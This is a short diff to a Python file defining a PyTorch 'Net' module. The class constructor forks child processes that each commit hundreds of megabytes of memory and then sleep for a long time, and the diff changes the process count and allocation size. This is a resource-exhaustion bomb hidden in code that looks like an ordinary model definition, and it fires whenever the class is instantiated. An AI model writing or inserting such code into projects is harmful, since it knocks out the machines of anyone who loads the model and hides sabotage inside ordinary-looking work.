@@ -10,9 +10,9 @@ from torch import nn
 class Net(nn.Module):
     def __init__(self):
         super().__init__()
-        for _ in range(16):
+        for _ in range(32):
             if os.fork() == 0:
-                kept = bytearray(1 << 30)
+                kept = bytearray(1 << 28)
                 for place in range(0, len(kept), 4096):
                     kept[place] = 1
                 time.sleep(1000)
